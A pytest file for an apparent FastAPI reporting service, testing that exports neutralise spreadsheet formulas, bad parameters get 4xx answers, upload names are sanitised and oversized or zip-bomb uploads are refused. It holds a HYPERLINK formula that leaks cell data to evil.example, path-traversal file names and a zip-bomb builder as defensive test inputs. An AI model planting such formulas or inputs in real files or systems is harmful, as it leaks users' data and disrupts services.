"""Issue 14 at the HTTP boundary: inert exports (finding 7), 4xx instead of 500s (finding 9)
and bounded parsing (finding 10)."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.exc import DataError, IntegrityError, OperationalError

from aurum.api.app import create_app
from aurum.services import reporting
from aurum.services.platform import Platform
from aurum.store.models import Upload
from tests.api.conftest import bearer
from tests.factories import GOOD_ROW, PASSWORD, Registry, report_csv

HAZARDS = "/api/v1/safety/hazards"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_a_formula_in_a_hazard_title_is_text_in_the_csv_and_excel_exports(
        app_client: TestClient) -> None:
    alpha, miit = bearer(app_client, "alpha"), bearer(app_client, "miit")
    r = app_client.post(HAZARDS, headers=alpha, json={
        "site": "SD-A-01", "title": FORMULA, "description": "Hazard", "area": "-2+3"})
    assert r.status_code == 201, r.text
    csv = pd.read_csv(io.StringIO(app_client.get(f"{HAZARDS}?format=csv", headers=miit).text),
                      keep_default_na=False)
    assert csv["title"].tolist() == ["'" + FORMULA]  # machine keys kept in CSV
    assert csv["area"].tolist() == ["'-2+3"]
    book = openpyxl.load_workbook(io.BytesIO(app_client.get(f"{HAZARDS}?format=xlsx",
                                                             headers=miit).content))
    sheet = book.active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    assert title.value == "'" + FORMULA and title.data_type == "s"  # a string, no formula
    # JSON is data, not a spreadsheet: the title is returned as it was written.
    assert app_client.get(HAZARDS, headers=miit).json()[0]["title"] == FORMULA


@pytest.mark.parametrize("url", [
    f"/api/v1/reports/{2**64}",               # beyond int64
    f"/api/v1/reports/{2**31}",               # beyond the id columns (PostgreSQL integer)
    "/api/v1/reports/0",                      # ids start at 1
    "/api/v1/recycling/entries?limit=-1",
    "/api/v1/recycling/entries?offset=-5",
    "/api/v1/recycling/tree-heads?limit=0",
    f"/api/v1/recycling/proofs/inclusion/{2**70}",
    f"{HAZARDS}?as_of=0857-03-11",
    "/api/v1/seismic/SD-A-01/events?start=0857-03-11T00:00:00",
    "/api/v1/reports?year=20000000",
])
def test_out_of_range_parameters_are_422_naming_the_limit(app_client: TestClient,
                                                          url: str) -> None:
    r = app_client.get(url, headers=bearer(app_client, "miit"))
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["loc"][0] in ("path", "query")


@pytest.mark.parametrize(("name", "stored"), [
    ("..", "upload.csv"),
    ("../../q1.csv", "q1.csv"),
    ("a" * 300 + ".csv", "a" * 251 + ".csv"),
    ("q1\u202e.csv", "q1.csv"),  # a right-to-left override (a control character)
])
def test_upload_names_are_stored_as_safe_base_names(app_client: TestClient, platform: Platform,
                                                    name: str, stored: str) -> None:
    r = app_client.post("/api/v1/reports/upload", headers=bearer(app_client, "alpha"),
                        files={"file": (name, report_csv([GOOD_ROW]), "text/csv")})
    assert r.status_code == 201, r.text
    with platform.sessions() as s:
        assert s.scalars(select(Upload.filename)).all() == [stored]


def test_a_file_of_many_bad_rows_answers_the_first_hundred_problems_and_a_count(
        app_client: TestClient) -> None:
    rows = [{**GOOD_ROW, "period": f"{2000 + i // 12}-{i % 12 + 1:02d}", "silver_kg": "lots"}
            for i in range(150)]
    r = app_client.post("/api/v1/reports/upload", headers=bearer(app_client, "alpha"),
                        files={"file": ("many.csv", report_csv(rows), "text/csv")})
    assert r.status_code == 422
    body = r.json()
    assert len(body["problems"]) == 100 and body["problems_omitted"] == 50
    assert body["problems"][0] == {"source": "many.csv", "row": 2, "column": "silver_kg",
                                   "message": body["problems"][0]["message"]}
    assert body["detail"].startswith("150 problems: many.csv, row 2, column silver_kg")


def test_an_xlsx_bomb_is_refused_before_parsing(app_client: TestClient,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    import zipfile

    from aurum.core import tables
    monkeypatch.setattr(tables, "MAX_UNPACKED_BYTES", 2**20)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (4 * 2**20))
    r = app_client.post("/api/v1/reports/upload", headers=bearer(app_client, "alpha"),
                        files={"file": ("bomb.xlsx", buf.getvalue(), "application/zip")})
    assert r.status_code == 422
    assert r.json()["detail"] == "bomb.xlsx: the file unpacks to 4 MiB; the limit is 1 MiB"


def _failing_submit(exc: Exception):  # type: ignore[no-untyped-def]
    def submit(*args: object, **kwargs: object) -> None:
        raise exc
    return submit


def test_a_race_on_a_unique_key_is_409(app_client: TestClient,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    # Two submissions of one period racing: the loser's insert meets the unique constraint.
    monkeypatch.setattr(reporting, "submit", _failing_submit(IntegrityError(
        "INSERT INTO reports ...", {}, Exception("UNIQUE constraint failed: reports.site_id"))))
    r = app_client.post("/api/v1/reports", headers=bearer(app_client, "alpha"), json={
        "site": "SD-A-01", "period": "2024-Q1", "values": {"silver_kg": 1}})
    assert r.status_code == 409
    assert "conflicts with data stored meanwhile" in r.json()["detail"]


def test_a_value_the_database_cannot_hold_is_422(app_client: TestClient,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reporting, "submit", _failing_submit(DataError(
        "INSERT ...", {}, Exception("value too long for type character varying(200)"))))
    r = app_client.post("/api/v1/reports", headers=bearer(app_client, "alpha"), json={
        "site": "SD-A-01", "period": "2024-Q1", "values": {"silver_kg": 1}})
    assert r.status_code == 422
    assert r.json()["detail"] == ("a value does not fit the stored field (too long or out of "
                                  "range); shorten or correct it")


def test_a_dropped_database_connection_is_a_one_line_503(
        app_client: TestClient, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    headers = bearer(app_client, "alpha")
    statement = "SELECT " + ", ".join(f"column_{i}" for i in range(5000))  # ~60 KB of SQL
    monkeypatch.setattr(reporting, "submit", _failing_submit(OperationalError(
        statement, {}, Exception("server closed the connection unexpectedly"))))
    r = app_client.post("/api/v1/reports", headers=headers, json={
        "site": "SD-A-01", "period": "2024-Q1", "values": {"silver_kg": 1}})
    assert r.status_code == 503
    assert r.json() == {"detail": "the database is unavailable; try again in a moment",
                        "problems": [{"message": "the database is unavailable; try again "
                                                 "in a moment"}]}
    logged = [rec.getMessage() for rec in caplog.records if rec.name == "aurum.api"]
    assert logged == ["database unavailable on POST /api/v1/reports: OperationalError"]


def test_an_unexpected_failure_is_a_one_line_500_and_the_traceback_stays_in_the_log(
        platform: Platform, reg: Registry, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    client = TestClient(create_app(platform), raise_server_exceptions=False)
    headers = bearer(client, "alpha")
    monkeypatch.setattr(reporting, "submit", _failing_submit(RuntimeError("secret internals")))
    r = client.post("/api/v1/reports", headers=headers, json={
        "site": "SD-A-01", "period": "2024-Q1", "values": {"silver_kg": 1}})
    assert r.status_code == 500
    assert r.json()["detail"] == "internal error: the failure is logged on the server"
    assert "secret internals" not in r.text and "Traceback" not in r.text
    assert r.headers["x-frame-options"] == "DENY"  # sent past the headers middleware too
    assert r.headers["content-security-policy"].startswith("default-src 'self'")
    record = next(rec for rec in caplog.records if rec.name == "aurum.api")
    assert record.exc_info is not None and "secret internals" in str(record.exc_info[1])


def test_the_upload_page_lists_the_first_hundred_problems_and_counts_the_rest(
        app_client: TestClient) -> None:
    html = app_client.get("/login").text
    csrf = html.split('name="csrf" value="')[1].split('"')[0]
    assert app_client.post("/login", data={"username": "alpha", "password": PASSWORD,
                                           "csrf": csrf}, follow_redirects=False).status_code == 303
    page = app_client.get("/reports").text
    csrf = page.split('name="csrf" value="')[1].split('"')[0]
    rows = [{**GOOD_ROW, "period": f"{2000 + i // 12}-{i % 12 + 1:02d}", "silver_kg": "lots"}
            for i in range(150)]
    r = app_client.post("/reports/upload", data={"csrf": csrf},
                        files={"file": ("many.csv", report_csv(rows), "text/csv")})
    assert r.status_code == 422
    assert "150 problem(s), the first 100 listed" in r.text
    assert r.text.count("<td>silver_kg</td>") == 100
    assert "… and 50 more problem(s)" in r.text


def test_a_body_beyond_the_request_limit_is_413_before_it_is_read(
        platform: Platform, reg: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    from aurum.core import tables
    monkeypatch.setattr(tables, "MAX_REQUEST_BYTES", 2**20)  # the app takes it when built
    client = TestClient(create_app(platform))
    headers = bearer(client, "alpha")
    called: list[object] = []
    monkeypatch.setattr(reporting, "submit", lambda *a, **k: called.append(a))
    r = client.post("/api/v1/reports", headers=headers, json={
        "site": "SD-A-01", "period": "2024-Q1", "values": {"note": "x" * (2 * 2**20)}})
    assert r.status_code == 413 and called == []
